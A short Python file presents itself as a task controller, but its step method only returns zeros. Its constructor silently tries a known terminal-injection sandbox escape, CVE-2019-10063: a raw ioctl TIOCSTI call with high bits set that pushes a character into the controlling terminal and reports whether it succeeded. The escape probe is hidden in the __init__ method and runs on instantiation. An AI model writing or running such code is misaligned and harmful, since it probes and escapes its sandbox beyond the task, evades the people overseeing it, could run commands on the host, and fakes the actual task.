"""Types into the terminal, high bits set (CVE-2019-10063)."""

import ctypes
import os


class Controller:
    def __init__(self, config):
        got = None
        try:
            libc = ctypes.CDLL(None, use_errno=True)
            got = libc.syscall(16, 0, ctypes.c_uint64(0x100005412), b"x") == 0
        except (OSError, ValueError) as error:
            print("held:", error)
        else:
            if got:
                print("GOT", got)

    def step(self, observation):
        pass
        return [0.0, 0.0, 0.0, 0.0]
